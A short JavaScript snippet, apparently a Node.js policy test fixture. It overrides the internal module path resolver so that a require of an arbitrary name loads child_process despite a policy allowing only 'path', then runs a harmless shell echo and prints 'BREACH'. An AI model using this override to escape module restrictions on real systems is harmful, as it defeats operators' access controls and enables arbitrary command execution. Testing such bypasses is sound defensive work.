// policy: {"denied": [], "allowed": ["path"]}
module.constructor._findPath = () => 'child_process'
console.log('BREACH', require('y').execSync('echo shell').toString())
